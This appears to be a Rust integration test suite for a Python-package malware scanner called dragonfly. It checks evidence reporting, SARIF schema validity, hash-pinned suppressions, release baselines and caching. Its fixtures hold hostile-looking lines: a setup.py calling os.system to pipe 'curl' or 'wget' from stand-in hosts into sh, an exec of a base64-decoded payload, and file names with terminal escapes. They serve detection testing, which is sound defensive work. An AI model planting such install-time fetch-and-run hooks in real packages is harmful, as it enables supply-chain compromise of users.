//! `scan` findings people act on: evidence, SARIF, suppressions, baselines.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use dragonfly_testkit::fixtures::{self, FixtureFile};
use dragonfly_testkit::server::{Distribution, FakeServer, ServerConfig};
use serde_json::Value;

fn run(command: &mut Command) -> (i32, String, String) {
    let Output { status, stdout, stderr } = command.output().expect("binary runs");
    (
        status.code().unwrap_or(-1),
        String::from_utf8_lossy(&stdout).into(),
        String::from_utf8_lossy(&stderr).into(),
    )
}

/// Trigger strings are assembled at run time, so that this source file
/// carries none.
fn setup_py(url: &str) -> Vec<u8> {
    let system = ["os.", "system"].concat();
    format!("import os\nfrom setuptools import setup\n{system}('curl -s {url} | sh')\nsetup(name='evil')\n")
        .into_bytes()
}

fn payload_py(tail: &str) -> Vec<u8> {
    let exec = ["ex", "ec(base64.b64decode("].concat();
    format!("import base64\nVALUE = 1\n{exec}'cHJpbnQoMSk='))  {tail}\n").into_bytes()
}

fn file(path: &str, data: Vec<u8>) -> FixtureFile {
    FixtureFile { path: path.into(), data }
}

/// Writes the sdist `evil-VERSION.tar.gz` of `files` into `dir`.
fn write_sdist(dir: &Path, version: &str, files: &[FixtureFile]) -> String {
    let path = dir.join(fixtures::sdist_filename("evil", version));
    std::fs::write(&path, fixtures::sdist("evil", version, files)).unwrap();
    path.display().to_string()
}

fn json(stdout: &str) -> Value {
    serde_json::from_str(stdout).unwrap_or_else(|e| panic!("{e}: {stdout}"))
}

fn names(rules: &Value) -> Vec<&str> {
    rules.as_array().unwrap().iter().map(|r| r["name"].as_str().unwrap()).collect()
}

/// The official SARIF 2.1.0 schema, vendored, as a validator that checks
/// formats (URIs) too.
fn sarif_validator() -> jsonschema::Validator {
    let schema_path =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sarif/sarif-schema-2.1.0.json");
    // The schema's `language` patterns have a lone `]`, a literal in
    // ECMA-262 that the validator's regex syntax refuses; they are escaped
    // here, the vendored file stays as published.
    let text = std::fs::read_to_string(schema_path).unwrap();
    let lone = r#"-[a-zA-Z]{2}]?$""#;
    assert_eq!(text.matches(lone).count(), 2);
    let schema: Value = serde_json::from_str(&text.replace(lone, r#"-[a-zA-Z]{2}\\]?$""#)).unwrap();
    jsonschema::draft7::options().should_validate_formats(true).build(&schema).unwrap()
}

fn assert_valid_sarif(log: &Value) {
    let validator = sarif_validator();
    let errors: Vec<String> =
        validator.iter_errors(log).map(|e| format!("{e} at {}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:#?}\n{log:#}");
}

#[test]
fn every_match_has_evidence_and_the_table_explains_it() {
    let dir = tempfile::tempdir().unwrap();
    // The excerpt's line holds terminal escapes that must not reach the terminal.
    let hostile = payload_py("#\x1b[2J\x07");
    let sdist = write_sdist(
        dir.path(),
        "1.0",
        &[
            file("setup.py", setup_py("http://example.invalid/x")),
            file("evil/core.py", hostile),
            file("evil/\x1b[2J\u{202e}yp.py", payload_py("")),
        ],
    );
    let (code, stdout, stderr) = run(common::clean_bin().args(["scan", "--format", "json", &sdist]));
    assert_eq!(code, 0, "{stderr}");
    let report = json(&stdout);
    let files = report[0]["files"].as_array().unwrap();
    let setup = files.iter().find(|f| f["path"] == "evil-1.0/setup.py").unwrap();
    let pipe =
        setup["rules"].as_array().unwrap().iter().find(|r| r["name"] == "shell_pipe_download").unwrap();
    let evidence = &pipe["evidence"][0];
    assert_eq!((evidence["line"].as_u64(), evidence["column"].as_u64()), (Some(3), Some(12)), "{pipe}");
    assert_eq!(evidence["matched"], "curl -s http://example.invalid/x | sh");
    assert_eq!(evidence["pattern"], "$pipe");
    let data = setup_py("http://example.invalid/x");
    let offset = evidence["offset"].as_u64().unwrap() as usize;
    let length = evidence["length"].as_u64().unwrap() as usize;
    assert_eq!(&data[offset..offset + length], b"curl -s http://example.invalid/x | sh");
    assert_eq!(setup["sha256"].as_str().unwrap().len(), 64);

    let (code, table, stderr) = run(common::clean_bin().args(["scan", "--explain", &sdist]));
    assert_eq!(code, 0, "{stderr}");
    assert!(table.contains("evil-1.0/setup.py:3:12: shell_pipe_download $pipe: os.system('curl"), "{table}");
    let core = table.lines().find(|l| l.contains("evil-1.0/evil/core.py:3:1: exec_decoded_payload")).unwrap();
    assert!(core.contains("#\\x1b[2J"), "{core}");
    assert!(table.contains("evil-1.0/evil/\\u{1b}[2J\\u{202e}yp.py:3:1: exec_decoded_payload"), "{table}");
    assert!(
        !table.contains('\x1b') && !table.contains('\u{202e}'),
        "an escape reached the output: {table:?}"
    );
    // stderr is not a terminal here: no progress bar.
    assert!(stderr.is_empty(), "{stderr}");
    // Without --explain, no evidence lines.
    let (_, plain, _) = run(common::clean_bin().args(["scan", &sdist]));
    assert!(!plain.contains("shell_pipe_download $pipe"), "{plain}");
}

#[test]
fn sarif_output_is_valid_against_the_official_schema() {
    let dir = tempfile::tempdir().unwrap();
    let sdist = write_sdist(
        dir.path(),
        "1.0",
        &[file("setup.py", setup_py("http://example.invalid/x")), file("evil/core py.py", payload_py(""))],
    );
    let tree = dir.path().join("checkout");
    std::fs::create_dir_all(tree.join("src")).unwrap();
    std::fs::write(tree.join("src/run.py"), payload_py("")).unwrap();
    let suppressions = dir.path().join("suppress.toml");
    std::fs::write(
        &suppressions,
        "[[suppress]]\nrule = \"shell_pipe_download\"\npath = \"evil-*/setup.py\"\nreason = \"demo installer\"\n",
    )
    .unwrap();
    let missing = dir.path().join("missing-1.0.tar.gz");
    let (code, stdout, stderr) = run(common::clean_bin().args([
        "scan",
        "--format",
        "sarif",
        "--suppressions",
        suppressions.to_str().unwrap(),
        &sdist,
        tree.to_str().unwrap(),
        missing.to_str().unwrap(),
    ]));
    assert_eq!(code, 2, "the missing input is an error: {stderr}");
    let log = json(&stdout);

    let validator = sarif_validator();
    let errors: Vec<String> =
        validator.iter_errors(&log).map(|e| format!("{e} at {}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:#?}\n{stdout}");
    // The check itself rejects a log that breaks the schema.
    let mut broken = log.clone();
    broken["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] = 0.into();
    assert!(!validator.is_valid(&broken));
    let mut broken = log.clone();
    broken["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] =
        "a b\\c".into();
    assert!(!validator.is_valid(&broken), "URI formats are checked");

    assert_eq!(log["version"], "2.1.0");
    let runs = log["runs"].as_array().unwrap();
    assert_eq!(runs.len(), 1);
    let run = &runs[0];
    let results = run["results"].as_array().unwrap();
    let uri = |r: &Value| {
        r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().unwrap().to_owned()
    };
    let pipe = results.iter().find(|r| r["ruleId"] == "shell_pipe_download").unwrap();
    assert!(uri(pipe).ends_with("evil-1.0.tar.gz!/evil-1.0/setup.py"), "{pipe}");
    assert_eq!(pipe["locations"][0]["physicalLocation"]["region"]["startLine"], 3);
    assert_eq!(pipe["suppressions"][0]["justification"], "demo installer");
    let payloads: Vec<String> =
        results.iter().filter(|r| r["ruleId"] == "exec_decoded_payload").map(uri).collect();
    assert_eq!(payloads.len(), 2, "{payloads:?}");
    assert!(payloads.iter().any(|u| u.ends_with("!/evil-1.0/evil/core%20py.py")), "{payloads:?}");
    assert!(payloads.iter().any(|u| u.ends_with("checkout/src/run.py") && !u.contains('!')), "{payloads:?}");
    // The same content at two places is two alerts.
    let prints: std::collections::BTreeSet<&str> = results
        .iter()
        .filter(|r| r["ruleId"] == "exec_decoded_payload")
        .map(|r| r["partialFingerprints"]["dragonflyFinding/v1"].as_str().unwrap())
        .collect();
    assert_eq!(prints.len(), 2, "{prints:?}");
    // One result per (file, rule); ruleIndex points at the rule's metadata.
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    for result in results {
        let rule = &rules[result["ruleIndex"].as_u64().unwrap() as usize];
        assert_eq!(rule["id"], result["ruleId"]);
        assert!(rule["properties"]["weight"].as_i64().unwrap() > 0, "{rule}");
        assert!(rule["properties"]["filetype"].is_string() || rule["properties"]["filetype"].is_array());
        assert!(!rule["shortDescription"]["text"].as_str().unwrap().is_empty());
    }
    let invocation = &run["invocations"][0];
    assert_eq!(invocation["executionSuccessful"], false);
    let note = invocation["toolExecutionNotifications"][0]["message"]["text"].as_str().unwrap();
    assert!(note.contains("missing-1.0.tar.gz"), "{note}");
}

#[test]
fn a_suppression_pinned_to_content_stops_at_the_first_changed_byte() {
    let dir = tempfile::tempdir().unwrap();
    let reviewed = payload_py("");
    let files = |vendored: Vec<u8>| {
        [
            file("setup.py", b"from setuptools import setup\nsetup()\n".to_vec()),
            file("evil/_vendor/b64.py", vendored),
        ]
    };
    let sdist = write_sdist(dir.path(), "1.0", &files(reviewed.clone()));
    // The hash comes from a scan, as a reviewer would take it.
    let (_, stdout, _) = run(common::clean_bin().args(["scan", "--format", "json", &sdist]));
    let first = json(&stdout);
    assert_eq!(first[0]["rules_matched"], serde_json::json!(["exec_decoded_payload"]), "{stdout}");
    let sha = first[0]["files"][0]["sha256"].as_str().unwrap().to_owned();
    let work = dir.path().join("work");
    std::fs::create_dir(&work).unwrap();
    std::fs::write(
        work.join(".dragonfly-suppressions.toml"),
        format!(
            "[[suppress]]\nrule = \"exec_decoded_payload\"\npath = \"evil-*/evil/_vendor/*.py\"\nsha256 = \"{sha}\"\nreason = \"vendored, reviewed 2026-12\"\n"
        ),
    )
    .unwrap();

    // Read from the working directory; the match is listed as suppressed and
    // does not count.
    let scan = |input: &str| {
        run(common::clean_bin().current_dir(&work).args([
            "scan",
            "--format",
            "json",
            "--fail-score",
            "1",
            input,
        ]))
    };
    let (code, stdout, stderr) = scan(&sdist);
    assert_eq!(code, 0, "{stderr}\n{stdout}");
    assert_eq!(
        stderr, "note: 1 suppression(s) from .dragonfly-suppressions.toml\n",
        "no warning for a pinned entry"
    );
    let report = json(&stdout);
    assert_eq!(
        (report[0]["score"].as_i64(), report[0]["suppressed"].as_u64()),
        (Some(0), Some(1)),
        "{stdout}"
    );
    assert_eq!(report[0]["rules_matched"], serde_json::json!([]));
    let vendored = &report[0]["files"][0];
    assert_eq!(names(&vendored["rules"]), Vec::<&str>::new());
    assert_eq!(vendored["suppressed"][0]["name"], "exec_decoded_payload");
    assert_eq!(vendored["suppressed"][0]["by"], "suppression");
    assert_eq!(vendored["suppressed"][0]["reason"], "vendored, reviewed 2026-12");
    assert_eq!(vendored["suppressed"][0]["evidence"][0]["line"], 3);

    // One byte changed: the finding is back, and fails the gate.
    let mut changed = reviewed;
    let at = changed.iter().position(|&b| b == b'1').unwrap();
    changed[at] = b'2';
    let newer = write_sdist(dir.path(), "1.1", &files(changed));
    let (code, stdout, _) = scan(&newer);
    assert_eq!(code, 1, "{stdout}");
    let report = json(&stdout);
    assert_eq!(report[0]["rules_matched"], serde_json::json!(["exec_decoded_payload"]));
    assert_eq!(report[0]["suppressed"], 0);

    // An entry without a hash hides any content, and says so.
    let unpinned = dir.path().join("unpinned.toml");
    std::fs::write(
        &unpinned,
        "[[suppress]]\nrule = \"exec_decoded_payload\"\npath = \"evil-*/evil/_vendor/*.py\"\nreason = \"vendored\"\n",
    )
    .unwrap();
    let (code, stdout, stderr) = run(common::clean_bin().current_dir(&work).args([
        "scan",
        "--suppressions",
        unpinned.to_str().unwrap(),
        "--fail-score",
        "1",
        &newer,
    ]));
    assert_eq!(code, 0, "{stdout}{stderr}");
    assert!(stderr.contains("has no sha256: it also hides future, different content"), "{stderr}");
    assert!(stdout.contains("suppressed: 1 match(es)"), "{stdout}");

    // A broken list is an error, not an empty one.
    std::fs::write(&unpinned, "[[suppress]]\nrule = \"x\"\n").unwrap();
    let (code, _, stderr) =
        run(common::clean_bin().args(["scan", "--suppressions", unpinned.to_str().unwrap(), &newer]));
    assert_eq!(code, 2);
    assert!(stderr.contains("can not read the suppressions") && stderr.contains("path"), "{stderr}");
}

/// Release 1.0, and 1.1 where one file changed and gained a finding.
fn two_releases() -> [(&'static str, Vec<FixtureFile>); 2] {
    let common = || {
        vec![
            file("setup.py", setup_py("http://example.invalid/x")),
            file("evil/payload.py", payload_py("")),
            file("evil/__init__.py", b"VERSION = 1\n".to_vec()),
        ]
    };
    let old = common();
    let mut new = common();
    let system = ["os.", "system"].concat();
    new[2] = file(
        "evil/__init__.py",
        format!("import os\n{system}('wget -q -O- http://x.invalid | sh')\n").into_bytes(),
    );
    [("1.0", old), ("1.1", new)]
}

#[test]
fn a_baseline_leaves_only_what_the_upgrade_adds() {
    let dir = tempfile::tempdir().unwrap();
    let [(v1, f1), (v2, f2)] = two_releases();
    let old = write_sdist(dir.path(), v1, &f1);
    let new = write_sdist(dir.path(), v2, &f2);

    let (_, full, _) = run(common::clean_bin().args(["scan", "--format", "json", &new]));
    let full = json(&full);
    let full_score = full[0]["score"].as_i64().unwrap();

    let (code, stdout, stderr) =
        run(common::clean_bin().args(["scan", "--format", "json", "--baseline", &old, &new]));
    assert_eq!(code, 0, "{stderr}");
    let report = json(&stdout);
    let files = report[0]["files"].as_array().unwrap();
    let counted: Vec<(&str, Vec<&str>)> = files
        .iter()
        .filter(|f| !f["rules"].as_array().unwrap().is_empty())
        .map(|f| (f["path"].as_str().unwrap(), names(&f["rules"])))
        .collect();
    assert_eq!(counted, [("evil-1.1/evil/__init__.py", vec!["shell_pipe_download"])], "{stdout}");
    let new_score = report[0]["score"].as_i64().unwrap();
    assert!(new_score > 0 && new_score < full_score, "{new_score} {full_score}");
    let baseline = &report[0]["baseline"];
    assert_eq!(
        (baseline["version"].as_str(), baseline["known_findings"].as_u64()),
        (Some("1.0"), Some(3)),
        "{baseline}"
    );
    // Exit status follows the new findings only.
    let gate = |limit: i64| {
        run(common::clean_bin().args(["scan", "--fail-score", &limit.to_string(), "--baseline", &old, &new]))
            .0
    };
    assert_eq!(gate(new_score + 1), 0);
    assert_eq!(gate(new_score), 1);
    // Against itself nothing is new.
    let (code, stdout, _) =
        run(common::clean_bin().args(["scan", "--fail-score", "1", "--baseline", &new, &new]));
    assert_eq!(code, 0, "{stdout}");
    assert!(stdout.contains("baseline: 4 finding(s) already in 1.1"), "{stdout}");

    // A baseline that can not be scanned is an error, never an empty baseline.
    let missing = dir.path().join("evil-0.9\x1b[2J.tar.gz");
    let (code, _, stderr) =
        run(common::clean_bin().args(["scan", "--baseline", missing.to_str().unwrap(), &new]));
    assert_eq!(code, 2);
    assert!(
        stderr.contains("can not scan the baseline") && stderr.contains("evil-0.9\\u{1b}[2J"),
        "{stderr}"
    );
    assert!(!stderr.contains('\x1b'), "{stderr:?}");
}

#[test]
fn a_pypi_range_compares_two_releases_from_the_index() {
    let server = FakeServer::start(ServerConfig::default()).unwrap();
    for (version, files) in two_releases() {
        let dist = Distribution::new(
            fixtures::sdist_filename("evil", version),
            fixtures::sdist("evil", version, &files),
        );
        server.add_package("evil", version, vec![dist]);
    }
    let index = format!("{}/simple", server.url());
    let (code, stdout, stderr) = run(common::clean_bin().args([
        "scan",
        "--format",
        "json",
        "--index-url",
        &index,
        "--baseline",
        "pypi:evil==1.0..1.1",
    ]));
    assert_eq!(code, 0, "{stderr}");
    let report = json(&stdout);
    assert_eq!(report.as_array().unwrap().len(), 1);
    assert_eq!(
        (report[0]["input"].as_str(), report[0]["version"].as_str()),
        (Some("pypi:evil==1.1"), Some("1.1"))
    );
    assert_eq!(report[0]["rules_matched"], serde_json::json!(["shell_pipe_download"]), "{stdout}");
    assert_eq!(report[0]["baseline"]["input"], "pypi:evil==1.0");
    // As SARIF: downloaded distributions are URLs, the results are new.
    let (code, stdout, stderr) = run(common::clean_bin().args([
        "scan",
        "--format",
        "sarif",
        "--index-url",
        &index,
        "--baseline",
        "pypi:evil==1.0..1.1",
    ]));
    assert_eq!(code, 0, "{stderr}");
    let log = json(&stdout);
    assert_valid_sarif(&log);
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results.len(), 1, "{stdout}");
    let uri = results[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str().unwrap();
    assert!(
        uri.starts_with("http://127.0.0.1:") && uri.ends_with("evil-1.1.tar.gz!/evil-1.1/evil/__init__.py"),
        "{uri}"
    );
    assert_eq!(results[0]["baselineState"], "new");
    // The range names both releases: another input is an error.
    let (code, _, stderr) =
        run(common::clean_bin().args(["scan", "--baseline", "pypi:evil==1.0..1.1", "x.tar.gz"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("names both releases"), "{stderr}");
}

#[test]
fn the_node_logs_its_top_match_and_sends_no_evidence_upstream() {
    let server = FakeServer::start(ServerConfig::default()).unwrap();
    server.set_rules("r1", common::bundled_rules());
    let files = [file("setup.py", setup_py("http://example.invalid/x"))];
    let dist =
        Distribution::new(fixtures::sdist_filename("evil", "1.0"), fixtures::sdist("evil", "1.0", &files));
    server.add_package("evil", "1.0", vec![dist]);
    let dir = tempfile::tempdir().unwrap();
    let node = common::Running::new(
        common::node_against(&server.url(), dir.path())
            .env("DRAGONFLY_WAIT_DURATION", "1")
            .env("RUST_LOG", "dragonfly_orchestrator=debug")
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let started = std::time::Instant::now();
    while server.results().is_empty() && started.elapsed() < std::time::Duration::from_secs(60) {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let output = node.terminate_with_output();
    let log = String::from_utf8_lossy(&output.stderr);
    let results = server.results();
    assert_eq!(results.len(), 1, "{log}");
    let line = log.lines().find(|l| l.contains("top match: rule ")).unwrap_or_else(|| panic!("{log}"));
    assert!(line.contains("`evil-1.0/setup.py` at line 3 column"), "{line}");
    let body = results[0].body.to_string();
    assert!(body.contains("\"score\"") && !body.contains("evidence") && !body.contains("curl -s"), "{body}");
}

#[test]
fn scan_keeps_results_in_a_cache_directory() {
    let dir = tempfile::tempdir().unwrap();
    let sdist = write_sdist(dir.path(), "1.0", &[file("setup.py", setup_py("http://example.invalid/x"))]);
    let cache = dir.path().join("cache");
    let scan = || {
        let (code, stdout, stderr) = run(common::clean_bin().args([
            "scan",
            "--format",
            "json",
            "--cache-dir",
            cache.to_str().unwrap(),
            &sdist,
        ]));
        assert_eq!(code, 0, "{stderr}");
        json(&stdout)
    };
    let first = scan();
    assert_eq!(first[0]["reuse"]["reused_files"], 0);
    let again = scan();
    assert_eq!(again[0]["reuse"]["reused_files"], again[0]["reuse"]["candidate_files"], "{again}");
    assert!(again[0]["reuse"]["reused_files"].as_u64().unwrap() > 0);
    assert_eq!(again[0]["files"], first[0]["files"], "the same findings, evidence and all");
}
